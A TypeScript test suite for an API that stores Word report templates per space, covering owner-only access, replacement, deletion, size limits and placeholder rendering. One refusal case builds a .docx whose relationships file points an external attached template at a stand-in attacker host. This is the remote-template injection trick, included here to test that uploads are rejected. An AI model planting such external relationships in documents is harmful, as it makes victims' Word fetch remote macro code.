import { sampleTemplate } from "@plumbline/documents/template"
import { strToU8, unzipSync, zipSync } from "fflate"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { assessmentFixture } from "../../testing/assessment-fixture.ts"
import { multipart } from "../../testing/multipart.ts"
import { type Caller, createTestApp, type TestApp } from "../../testing/test-app.ts"

let app: TestApp
let sample: Uint8Array
beforeAll(async () => {
  app = await createTestApp()
  sample = await sampleTemplate("en")
})
afterAll(() => app.close())

const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

const upload = (person: Caller, path: string, bytes: Uint8Array, name = "گزارش ما.docx") =>
  person.call("PUT", path, multipart({ template: { name, type: WORD, bytes } }))

async function spaceWithReport() {
  const fixture = await assessmentFixture(app)
  await fixture.answerAll("yes", 4)
  return { ...fixture, template: `/api/v1/spaces/${fixture.spaceId}/document-template/` }
}

/** The sample with one of its parts changed. */
function changed(path: string, change: (xml: string) => string): Uint8Array {
  const parts = unzipSync(sample)
  const xml = change(new TextDecoder().decode(parts[path] ?? new Uint8Array()))
  return zipSync({ ...parts, [path]: strToU8(xml) })
}

describe("the Word template of a space", () => {
  test("is stored, replaced and removed by its owner, with its file", async () => {
    const { manager, template } = await spaceWithReport()
    expect((await manager.get(template)).body).toMatchObject({ template: null })
    const { status, body } = await upload(manager, template, sample)
    expect(status).toBe(200)
    expect(body.template).toMatchObject({
      name: "گزارش ما.docx",
      bytes: sample.length,
      createdBy: { id: manager.user.id },
    })
    const download = await app.visitor().get(body.template.link.replace(/^https?:\/\/[^/]+/, ""))
    expect(new Uint8Array(download.bytes)).toEqual(sample)
    const replaced = await upload(manager, template, sample, "second.docx")
    expect(replaced.body.template.name).toBe("second.docx")
    const files = async () => {
      const paths: string[] = []
      for await (const path of app.files.list()) if (path.startsWith("template/")) paths.push(path)
      return paths.filter((path) => path.endsWith("second.docx") || path.endsWith("گزارش ما.docx"))
    }
    expect(await files()).toHaveLength(1)
    expect((await manager.delete(template)).status).toBe(204)
    expect(await files()).toEqual([])
    expect((await manager.delete(template)).status).toBe(404)
    expect((await manager.get(template)).body).toMatchObject({ template: null })
  })

  test("is for its owner alone", async () => {
    const fixture = await spaceWithReport()
    const member = await fixture.addMember("assessor")
    expect((await member.get(fixture.template)).status).toBe(403)
    expect((await upload(member, fixture.template, sample)).status).toBe(403)
    expect((await member.delete(fixture.template)).status).toBe(403)
  })

  test("is what Word reports of the space are made from, and changes their entity tag", async () => {
    const { manager, template, path } = await spaceWithReport()
    const own = changed("word/document.xml", (xml) =>
      xml.replace(/<w:body>/, "<w:body><w:p><w:r><w:t>Ours {{title}}</w:t></w:r></w:p>"),
    )
    const before = await manager.get(`${path}/export/?format=docx`)
    expect((await upload(manager, template, own)).body.code).toBeUndefined()
    const after = await manager.get(`${path}/export/?format=docx`)
    const textOf = (bytes: Buffer) =>
      new TextDecoder().decode(unzipSync(bytes)["word/document.xml"]).replaceAll(/<[^>]*>/g, "")
    expect(textOf(before.bytes)).not.toContain("Ours")
    expect(textOf(after.bytes)).toContain("Ours Payments service")
    expect(after.headers.etag).not.toBe(before.headers.etag)
  })

  test.each([
    ["another file", () => new Uint8Array(Buffer.from("%PDF-1.7")), "Word file"],
    [
      "an unknown placeholder",
      () => changed("word/document.xml", (xml) => xml.replace("{{title}}", "{{titel}}")),
      "{{titel}}",
    ],
    [
      "a relation to something outside",
      () =>
        changed("word/_rels/document.xml.rels", (xml) =>
          xml.replace(
            "</Relationships>",
            '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
          ),
        ),
      "evil.example",
    ],
  ])("is refused with a sentence that names what is wrong: %s", async (_name, bytes, named) => {
    const { manager, template } = await spaceWithReport()
    const refused = await upload(manager, template, bytes())
    expect(refused).toMatchObject({ status: 400, body: { code: "INVALID_INPUT" } })
    expect(refused.body.message).toContain(named)
    expect((await manager.get(template)).body).toMatchObject({ template: null })
  })

  test("has at most 2 MB", async () => {
    const { manager, template } = await spaceWithReport()
    const large = new Uint8Array(2 * 1024 * 1024 + 1)
    large.set(sample)
    expect((await upload(manager, template, large)).status).toBe(400)
  })

  test("has a sample for everybody, in both languages", async () => {
    for (const lang of ["en", "fa"]) {
      const reply = await app.visitor().get(`/api/v1/document-template-sample/?lang=${lang}`)
      expect(reply.headers["content-type"]).toBe(WORD)
      const { manager, template } = await spaceWithReport()
      expect((await upload(manager, template, reply.bytes)).status).toBe(200)
    }
  })
})
